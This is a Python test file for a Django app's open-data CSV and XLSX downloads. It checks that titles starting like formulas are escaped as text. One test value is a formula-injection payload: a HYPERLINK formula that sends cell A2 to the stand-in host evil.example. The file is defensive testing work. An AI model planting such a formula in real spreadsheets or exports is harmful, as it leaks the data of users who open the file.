"""The open-data CSV and XLSX: a title, theme or group that starts like a formula is
written as text, and never opens as a formula (cairn/core/spreadsheets.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from cairn.recommendations.tests.registry_fixtures import Registry, build_registry

pytestmark = pytest.mark.django_db

DOWNLOADS = "/fr/etat-des-lieux/donnees-ouvertes/"
TITLE = '=HYPERLINK("https://evil.example/?d="&A2,"Voir la recommandation")'
THEME = "+Accueil des nouveaux sociétaires"
GROUP = "@Bruxelles"


@pytest.fixture
def reg() -> Registry:
    registry = build_registry()
    registry.recs["acc1"].title = TITLE
    registry.recs["acc1"].save(update_fields=["title"])
    registry.themes["acc"].title = THEME
    registry.themes["acc"].save(update_fields=["title"])
    registry.groups["bxl"].name = GROUP
    registry.groups["bxl"].save(update_fields=["name"])
    return registry


def test_the_list_csv_keeps_hostile_titles_as_text(client: Client, reg: Registry) -> None:
    rows = list(csv.DictReader(io.StringIO(client.get(DOWNLOADS + "recommandations.csv").content.decode())))

    first = next(row for row in rows if row["reference"] == reg.recs["acc1"].reference)
    assert (first["title"], first["theme"]) == ("'" + TITLE, "'" + THEME)
    assert "'" + GROUP in first["groups"]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_figures_csv_keeps_hostile_labels_as_text(client: Client, reg: Registry) -> None:
    rows = list(csv.DictReader(io.StringIO(client.get(DOWNLOADS + "chiffres.csv").content.decode())))

    assert "'" + THEME in {row["label"] for row in rows if row["breakdown"] == "theme"}
    assert "'" + GROUP in {row["label"] for row in rows if row["breakdown"] == "group"}
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_xlsx_has_no_formula_and_keeps_numbers(client: Client, reg: Registry) -> None:
    workbook = load_workbook(io.BytesIO(client.get(DOWNLOADS + "chiffres.xlsx").content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]

    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    titles = {cell.value for cell in cells}
    assert {"'" + TITLE, "'" + THEME} <= titles
    assert [cell.value for cell in workbook["all"][2]][:4] == ["all", None, None, 6]
